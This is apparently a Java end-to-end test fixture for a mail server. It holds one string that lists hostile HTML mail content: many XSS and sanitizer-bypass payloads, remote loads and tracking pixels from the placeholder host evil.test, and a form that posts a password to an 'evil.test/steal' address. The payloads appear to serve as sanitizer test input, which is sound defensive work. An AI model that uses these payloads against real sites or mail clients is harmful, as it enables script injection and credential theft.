package dev.agentmailbox.server.e2e;

/** Ways in which the HTML of a mail tries to run, load or send something; the last hides what follows. */
final class HostileHtml {
  static final String ALL =
      """
      <script>alert(1)</script>
      <SCRIPT SRC=http://evil.test/x.js></SCRIPT>
      <<SCRIPT>alert(1)//<</SCRIPT>
      <script/xss src="http://evil.test/x.js"></script>
      <scr<script>ipt>alert(1)</scr</script>ipt>
      <img src=x onerror=alert(1)>
      <img src="http://evil.test/pixel.gif" srcset="http://evil.test/2x.gif 2x">
      <img src="java&#x0A;script:alert(1)">
      <IMG \"""><SCRIPT>alert(1)</SCRIPT>">
      <img src=`javascript:alert(1)`>
      <img/onerror/="alert(1)"src=x>
      <img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">
      <svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s></svg>
      <svg><script>alert(1)</script></svg>
      <svg><a xlink:href="javascript:alert(1)"><text y=20>text</text></a></svg>
      <svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>
      <math href="javascript:alert(1)">math</math>
      <noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
      <form action="http://evil.test/steal"><input name=password autofocus onfocus=alert(1)><button formaction="javascript:alert(1)">Go</button></form>
      <iframe src="http://evil.test/"></iframe>
      <iframe srcdoc="<script>alert(1)</script>"></iframe>
      <object data="data:text/html,<script>alert(1)</script>"></object>
      <embed src="http://evil.test/x.swf">
      <applet code="Evil.class" archive="http://evil.test/x.jar"></applet>
      <link rel=stylesheet href="http://evil.test/x.css">
      <link rel=prefetch href="http://evil.test/prefetch">
      <style>@import url(http://evil.test/x.css); body { background: url(http://evil.test/bg) }</style>
      <p style="background:url('http://evil.test/style')">styled</p>
      <p style="position:fixed;top:0;left:0;width:100%;height:100%">cover</p>
      <base href="http://evil.test/">
      <meta http-equiv=refresh content="0;url=http://evil.test/refresh">
      <meta http-equiv=Set-Cookie content="x=y">
      <a href="javascript:alert(1)">link</a>
      <a href="JaVaScRiPt&colon;alert(1)">link</a>
      <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link</a>
      <a href="vbscript:msgbox(1)">link</a>
      <a href="http://evil.test/" ping="http://evil.test/ping" target=_top onclick=alert(1)>link</a>
      <body onload=alert(1) background="http://evil.test/background">
      <table background="http://evil.test/table"><td background="javascript:alert(1)">cell</table>
      <video src="http://evil.test/video" poster="http://evil.test/poster" onerror=alert(1)><source onerror=alert(1)></video>
      <audio src="http://evil.test/audio" onerror=alert(1)></audio>
      <details open ontoggle=alert(1)><summary>sum</summary></details>
      <marquee onstart=alert(1)>marquee</marquee>
      <select onfocus=alert(1) autofocus><option>x</select>
      <textarea autofocus onfocus=alert(1)></textarea>
      <keygen autofocus onfocus=alert(1)>
      <isindex action="javascript:alert(1)" type=image>
      <template><img src=x onerror=alert(1)></template>
      <div id="__proto__" name="cookie"><div id=body><form id=document></form></div></div>
      <xss onmouseover=alert(1) style="behavior:url(http://evil.test/x.htc)">xss</xss>
      <!--[if gte IE 4]><script>alert(1)</script><![endif]-->
      <!--><img src=x onerror=alert(1)>-->
      <![CDATA[<img src=x onerror=alert(1)>]]>
      <?xml version="1.0"?><?import namespace="t" implementation="#default#time2">
      <b>bold</b> &lt;script&gt;alert(1)&lt;/script&gt;
      <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></math>
      """;

  private HostileHtml() {}
}
